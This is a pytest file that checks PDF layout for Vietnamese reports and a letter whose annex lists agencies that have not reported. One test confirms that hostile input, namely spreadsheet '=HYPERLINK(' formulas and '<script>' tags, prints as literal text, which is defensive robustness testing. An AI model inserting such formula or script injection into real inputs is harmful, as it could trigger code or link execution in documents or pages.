    pdfs = to_pdf(files, work, work)
    for old in ARTIFACTS.glob("*.png"):
        old.unlink()
    pngs = {name: page_pngs(pdf, ARTIFACTS) for name, pdf in pdfs.items()}
    return pdfs, pngs, work


def annex_page(pdf) -> int:
    return next(p for p in range(1, page_count(pdf) + 1) if "DANH SÁCH CÁC CƠ QUAN" in page_text(pdf, p))


def lines(pdf, page: int) -> list[str]:
    return [line.strip() for line in page_text(pdf, page).splitlines() if line.strip()]


def test_every_page_from_the_second_is_numbered_at_the_top_and_the_first_is_not(rendered):
    pdfs, _, _ = rendered
    for name, pdf in pdfs.items():
        assert lines(pdf, 1)[0] != "1", name
        for page in range(2, page_count(pdf) + 1):
            assert lines(pdf, page)[0] == str(page), (name, page)


def test_letter_is_one_or_two_pages_plus_the_annex(rendered, report):
    pdfs, pngs, _ = rendered
    letter = pdfs["letter"]
    start = annex_page(letter)
    assert start in (2, 3)  # the letter itself: 1–2 pages
    missing = missing_names(report)
    listed = [page_text(letter, p).count("Chưa gửi báo cáo") for p in range(start, page_count(letter) + 1)]
    assert sum(listed) == len(missing), "every missing agency once in the annex"
    assert all(n >= 36 for n in listed[:-1]), f"annex pages are filled (a single-spaced 13 pt table): {listed}"
    groups = report.agencies.loc[report.agencies["name"].isin(missing), "group"].nunique()
    assert len(listed) == -(-(len(missing) + groups) // listed[0]), "no page more than the rows need"
    assert "Phan Tâm" in "".join(page_text(letter, p) for p in range(1, start))
    assert page_count(pdfs["letter_short"]) in (1, 2)
    assert "Kính gửi: Tập đoàn" in page_text(pdfs["letter_short"], 1)


def test_the_annex_repeats_its_header_and_never_leaves_a_group_heading_at_the_foot_of_a_page(rendered, report):
    pdfs, _, _ = rendered
    labels = {report.config.group_label(g, "vi") for g in report.config.groups}
    for name in ("letter", "letter_late"):
        pdf = pdfs[name]
        for page in range(annex_page(pdf), page_count(pdf) + 1):
            found = lines(pdf, page)
            assert any(line.startswith("STT") and "Tên cơ quan, đơn vị" in line for line in found), (name, page)
            assert not any(found[-1].startswith(label) for label in labels), (name, page, found[-1])
            assert re.match(r"^\d+ ", found[-1]), (name, page, found[-1])


def test_reports_render_on_a4_with_every_chart_inked(rendered, config):
    pdfs, pngs, work = rendered
    assert 4 <= page_count(pdfs["final"]) <= 9
    assert "Số liệu tính đến 09:00 ngày 04/06/2021" in page_text(pdfs["final"], 1)
    itu_first = page_text(pdfs["itu"], 1)
    assert config.documents.itu.groups_heading in itu_first and config.documents.itu.sender[0] in itu_first
    assert "Source: reports of" in "".join(page_text(pdfs["itu"], p) for p in (1, 2))  # two pages of text
    assert page_count(pdfs["itu"]) <= 6
    for name in ("final", "itu", "hostile_final", "hostile_itu"):
        pictures = [p for p in pdf_images(pdfs[name], work) if ink(p) > 0]
        assert len(pictures) >= 4, name
        assert sorted(ink(p) for p in pictures)[-4] > 0.02, name  # the four charts are drawn, not blank
    for name, pdf in pdfs.items():
        assert page_sizes(pdf) == {"595.304 x 841.89 pts"}, name  # A4, every page
        assert all(ink(png) > 0.001 for png in pngs[name]), f"{name}: a blank page"


def test_hostile_text_does_not_break_the_layout(rendered):
    pdfs, _, _ = rendered
    assert page_count(pdfs["hostile_letter"]) <= 3
    assert page_count(pdfs["hostile_final"]) <= 8
    text = "".join(page_text(pdfs["hostile_final"], p) for p in range(1, page_count(pdfs["hostile_final"]) + 1))
    assert "=HYPERLINK(" in text and "<script>" in text  # printed as typed
    widest = max(len(line) for line in text.splitlines())
    assert widest < 200, "a line runs off the page"
